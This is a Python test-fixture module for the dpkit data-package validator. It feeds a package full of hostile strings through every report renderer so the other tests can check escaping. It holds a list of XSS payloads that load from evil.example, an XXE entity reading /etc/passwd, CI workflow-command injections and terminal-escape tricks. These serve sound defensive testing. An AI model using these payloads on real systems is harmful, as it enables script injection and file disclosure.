"""What tests of the formats share: the naughtiest package, and the outputs of a command."""

import csv
import io
import json
from collections.abc import Sequence
from pathlib import Path

import pytest

import dpkit
from dpkit.cli.output import RENDERERS, rendered

FORMATS = tuple(RENDERERS)
RESOURCES = Path(__file__).parent.parent / "resources"
MARK = "ZQX"  #: ends each hostile text, so that it is found again

XSS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=x></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=//evil.example/ ping=//evil.example/>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><x/>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "<https://evil.example/> www.evil.example @everyone #1 GH-1 :bomb:",
    "` | `x` | <b>x</b> | ``` \\` \\| \\",
    "x\\|y | z **b** __i__ ~~s~~ [^1] {0} [a](1)",
    "\n::error file=x::injected",
    "::set-output name=x::y %0A::error::z ##[add-mask]x",
    "\r\n::stop-commands::x\x1b]8;;//evil.example/\x07x\x1b]8;;\x07",
    "\u202egpj.exe \u200b\u2066x\u2069 \ufeff\x00\x07\x9b31m",
)


@pytest.fixture(scope="session")
def hostile() -> list[str]:
    """Return the naughty strings and the attacks on readers of reports, each with the mark at its end."""
    naughty = json.loads((RESOURCES / "blns.json").read_text(encoding="utf-8"))
    return [text + MARK for text in [*naughty, *XSS]]


def files(hostile: Sequence[str]) -> "dict[str, str]":
    cells = [[text, text, text] for text in hostile]
    citation = {"source": "source_id", "locator": "locator", "quote": "quote", "confidence": "confidence"}
    schema = {
        "fields": [{"name": "id"}, {"name": "day", "type": "date"}, {"name": "place"}],
        "primaryKey": ["id", "day"],
        "foreignKeys": [{"fields": "place", "reference": {"resource": "places", "fields": "id"}}],
    }
    cited = {"fields": [{"name": name} for name in citation.values()], "dpkit": {"citation": citation}}
    source = {"id": "id", "sha256": "sha256"}
    sources = {"fields": [{"name": "id"}, {"name": "sha256"}], "dpkit": {"source": source}}
    resources = [
        {"name": "cells", "path": "cells.csv", "schema": schema},
        {"name": "places", "path": "places.csv", "schema": {"fields": [{"name": "id"}]}},
        {"name": "cited", "path": "cited.csv", "schema": cited},
        {"name": "sources", "path": "sources.csv", "schema": sources},
        {"name": "labels", "path": "labels.csv", "schema": {"fields": [{"name": hostile[-1]}]}},
        *({"name": text, "title": text, "path": text, "schema": {"fields": []}} for text in hostile),
    ]
    descriptor = {"name": hostile[-1], "version": hostile[-2], "title": hostile[0], "resources": resources}
    own = f"checks/{hostile[-2].replace('/', '_').replace(chr(0), '')}.sql"
    return {
        "datapackage.json": json.dumps(descriptor | {"dpkit": {"sources": "sources"}}),
        "cells.csv": written([["id", "day", "place"], *cells, *cells[-2:]]),
        "places.csv": "id\nomsk\n",
        "cited.csv": written([[*citation.values()], *([text] * len(citation) for text in hostile)]),
        "sources.csv": written([["id", "sha256"], *([text, text] for text in hostile[::2])]),
        "labels.csv": written([[*hostile, *hostile[-2:]]]),
        own: "-- message: <b>{id}</b>\nSELECT id FROM cells",
    }


def written(rows: "list[list[str]]") -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


@pytest.fixture(scope="session")
def outputs(hostile: list[str], tmp_path_factory: pytest.TempPathFactory) -> "dict[str, str]":
    """Return the whole report, in every format, of a package that has each hostile text wherever one can stand."""
    folder = tmp_path_factory.mktemp("hostile")
    for name, content in files(hostile).items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_bytes(content.encode("utf-8", "surrogatepass"))
    report = dpkit.open(folder).validate(first=None)
    return {form: rendered(report, form, every=True) for form in FORMATS}
